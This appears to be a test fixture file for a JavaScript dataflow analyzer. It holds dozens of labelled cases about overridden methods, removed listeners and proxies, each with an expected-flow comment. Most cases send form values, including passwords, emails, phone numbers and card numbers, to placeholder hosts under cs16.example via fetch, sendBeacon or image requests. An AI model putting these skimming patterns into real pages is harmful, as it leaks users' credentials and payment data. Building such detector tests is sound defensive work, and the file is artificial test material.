// Methods that are replaced, overridden or taken back; objects of one class or factory told apart; steps in a row.

//# prototype-method-replaced-by-class-user
// no flow
class Feed { push(v) { navigator.sendBeacon('https://pmr.cs16.example/f', v); } }
Feed.prototype.push = function () { return false; };
const feed = new Feed();
document.querySelector('textarea').addEventListener('change', (e) => feed.push(e.target.value));

//# prototype-method-wrapped
// flow: message > pmw.cs16.example via beacon
// why: the new method calls the old one
class Feed2 { push(v) { navigator.sendBeacon('https://pmw.cs16.example/f', v); } }
const before = Feed2.prototype.push;
Feed2.prototype.push = function (v) { console.debug('push'); return before.call(this, v); };
const feed2 = new Feed2();
document.querySelector('textarea').addEventListener('change', (e) => feed2.push(e.target.value));

//# option-of-the-only-instance
// no flow
// why: the one client is given a method of its own before anything happens
function Client(url) { this.url = url; }
Client.prototype.report = function (v) { fetch(this.url, { method: 'POST', body: v }); };
var client = new Client('https://ooi.cs16.example/c');
client.report = function (v) { console.warn(v); };
document.querySelector('input[type=email]').onblur = function () { client.report(this.value); };

//# one-of-two-instances
// flow: email > oot.cs16.example via fetch
// why: only the other client has a method of its own
function Client2(url) { this.url = url; }
Client2.prototype.report = function (v) { fetch(this.url, { method: 'POST', body: v }); };
var quiet = new Client2('https://oot.cs16.example/quiet');
var loud = new Client2('https://oot.cs16.example/c');
quiet.report = function (v) { console.warn(v); };
document.querySelector('input[type=email]').onblur = function () { quiet.report(this.value); loud.report(this.value); };

//# replaced-after-the-first-call
// flow: password > rfc.cs16.example via fetch
const api = { save: (v) => fetch('https://rfc.cs16.example/s', { method: 'POST', body: v }) };
api.save(document.querySelector('input[type=password]').value);
api.save = () => {};

//# replaced-by-a-handler
// flow: password > rbh.cs16.example via fetch
// why: the method stays what it is until somebody opts out
const api2 = { save: (v) => fetch('https://rbh.cs16.example/s', { method: 'POST', body: v }) };
document.querySelector('#optout').onclick = () => { api2.save = () => {}; };
document.querySelector('form').onsubmit = () => api2.save(document.querySelector('input[type=password]').value);

//# entry-deleted-from-a-table
// no flow
const handlers = {};
handlers.track = (v) => new Image().src = 'https://edt.cs16.example/p.gif?v=' + encodeURIComponent(v);
delete handlers.track;
document.querySelector('input[type=search]').onchange = (e) => handlers.track && handlers.track(e.target.value);

//# getter-of-a-middle-class
// no flow
// why: the class in the middle has its own payload, and only its child is made
class Report { get body() { return document.querySelector('input[type=tel]').value; } send() { fetch('https://gmc.cs16.example/r', { method: 'POST', body: this.body }); } }
class Masked extends Report { get body() { return 'masked'; } }
class Final extends Masked { constructor() { super(); this.at = Date.now(); } }
new Final().send();

//# getter-of-a-parent-that-is-made-too
// flow: phone > gpm.cs16.example via fetch
class Report2 { get body() { return document.querySelector('input[type=tel]').value; } send() { fetch('https://gpm.cs16.example/r', { method: 'POST', body: this.body }); } }
class Masked2 extends Report2 { get body() { return 'masked'; } }
new Masked2().send();
new Report2().send();

//# getter-that-asks-the-parent
// flow: phone > gap.cs16.example via fetch
class Report3 { get body() { return document.querySelector('input[type=tel]').value; } send() { fetch('https://gap.cs16.example/r', { method: 'POST', body: this.body }); } }
class Trimmed extends Report3 { get body() { return super.body.trim(); } }
new Trimmed().send();

//# method-of-the-parent-as-a-hook
// no flow
// why: the hook of the class that is made gives nothing
class Collector { collect() { return { mail: document.querySelector('#email').value }; } flush() { navigator.sendBeacon('https://mph.cs16.example/c', JSON.stringify(this.collect())); } }
class Empty extends Collector { collect() { return {}; } }
window.addEventListener('pagehide', () => new Empty().flush());

//# builders-of-one-class
// flow: search > bsr.cs16.example via fetch
class Query {
  constructor(url) { this.url = url; this.params = new URLSearchParams(); }
  where(name, value) { this.params.append(name, value); return this; }
  run() { return fetch(this.url + '?' + this.params); }
}
const kept = new Query('https://bkp.cs16.example/q');
kept.where('pw', document.querySelector('input[type=password]').value).where('n', '1');
new Query('https://bsr.cs16.example/q').where('q', document.querySelector('input[type=search]').value).where('n', '2').run();

//# builder-that-is-run-in-the-end
// flow: password > bie.cs16.example via fetch
class Query2 {
  constructor(url) { this.url = url; this.params = new URLSearchParams(); }
  where(name, value) { this.params.append(name, value); return this; }
  run() { return fetch(this.url + '?' + this.params); }
}
const kept2 = new Query2('https://bie.cs16.example/q');
kept2.where('pw', document.querySelector('input[type=password]').value).where('n', '1');
kept2.run();

//# removed-by-what-listening-gave-back
// no flow
// why: the listener is gone before the field can change
const listeners = [];
function listen(fn) {
  listeners.push(fn);
  return { remove() { listeners.splice(listeners.indexOf(fn), 1); } };
}
const handle = listen((v) => fetch('https://rlg.cs16.example/l', { method: 'POST', body: v }));
handle.remove();
document.querySelector('input[type=email]').onchange = (e) => listeners.forEach((fn) => fn(e.target.value));

//# removed-only-when-closed
// flow: email > roc.cs16.example via fetch
// why: it is taken off when the dialog closes, not before
const listeners2 = [];
function listen2(fn) {
  listeners2.push(fn);
  return { remove() { listeners2.splice(listeners2.indexOf(fn), 1); } };
}
const handle2 = listen2((v) => fetch('https://roc.cs16.example/l', { method: 'POST', body: v }));
document.querySelector('#close').onclick = () => handle2.remove();
document.querySelector('input[type=email]').onchange = (e) => listeners2.forEach((fn) => fn(e.target.value));

//# told-at-once-then-removed
// flow: email > tao.cs16.example via beacon
// why: whoever subscribes is told the present value at once
const subs = new Set();
let current = document.querySelector('input[type=email]').value;
const subscribe = (fn) => { subs.add(fn); fn(current); return () => subs.delete(fn); };
const off = subscribe((v) => navigator.sendBeacon('https://tao.cs16.example/v', v));
off();

//# signal-aborted-right-after
// no flow
const stop = new AbortController();
document.querySelector('input[type=search]').addEventListener('input', (e) => {
  navigator.sendBeacon('https://sar.cs16.example/q', e.target.value);
}, { signal: stop.signal });
stop.abort();

//# signal-aborted-by-a-button
// flow: search > sab.cs16.example via beacon
const stop2 = new AbortController();
document.querySelector('input[type=search]').addEventListener('input', (e) => {
  navigator.sendBeacon('https://sab.cs16.example/q', e.target.value);
}, { signal: stop2.signal });
document.querySelector('#stop').onclick = () => stop2.abort();

//# kept-in-a-map-and-deleted
// no flow
const commands = new Map();
commands.set('upload', (v) => fetch('https://kmd.cs16.example/u', { method: 'POST', body: v }));
commands.delete('upload');
document.querySelector('#card').onchange = (e) => commands.get('upload')?.(document.querySelector('input[autocomplete=cc-number]').value);

//# another-entry-deleted
// flow: card > aed.cs16.example via fetch
const commands2 = new Map();
commands2.set('upload', (v) => fetch('https://aed.cs16.example/u', { method: 'POST', body: v }));
commands2.delete('download');
document.querySelector('#card').onchange = (e) => commands2.get('upload')?.(document.querySelector('input[autocomplete=cc-number]').value);

//# jquery-off-of-a-namespace
// no flow
$('#email').on('change.lead', function () { $.post('https://jon.cs16.example/l', { m: $(this).val() }); });
$('#email').off('.lead');

//# jquery-off-of-another-namespace
// flow: email > joa.cs16.example via xhr
$('#email').on('change.lead', function () { $.post('https://joa.cs16.example/l', { m: $(this).val() }); });
$('#email').off('.menu');

//# observer-disconnected
// no flow
const seen = new MutationObserver(() => navigator.sendBeacon('https://obs.cs16.example/m', document.querySelector('textarea').value));
seen.observe(document.body, { childList: true });
seen.disconnect();

//# two-proxies-of-one-factory
// flow: email > tpf.cs16.example via fetch
const rpc = (host) => new Proxy({}, { get: (_, method) => (...args) => fetch(`https://${host}/${String(method)}`, { method: 'POST', body: JSON.stringify(args) }) });
const accounts = rpc('tpf.cs16.example'), stats = rpc('tpg.cs16.example');
document.querySelector('input[type=email]').onchange = (e) => { accounts.check(e.target.value); stats.count(1); };

//# two-clients-of-nested-makers
// flow: phone > tcn.cs16.example via fetch
function connect(base) {
  return { channel: (name) => ({ send: (body) => fetch(base + name, { method: 'POST', body }) }) };
}
const here = connect('https://tcn.cs16.example/'), there = connect('https://tcm.cs16.example/');
document.querySelector('input[type=tel]').onchange = (e) => { here.channel('a').send(e.target.value); there.channel('b').send('ping'); };

//# both-proxies-are-given-it
// flow: email > bpa.cs16.example via fetch
// flow: email > bpb.cs16.example via fetch
const rpc2 = (host) => new Proxy({}, { get: (_, method) => (...args) => fetch(`https://${host}/${String(method)}`, { method: 'POST', body: JSON.stringify(args) }) });
const first = rpc2('bpa.cs16.example'), second = rpc2('bpb.cs16.example');
document.querySelector('input[type=email]').onchange = (e) => { first.check(e.target.value); second.check(e.target.value); };
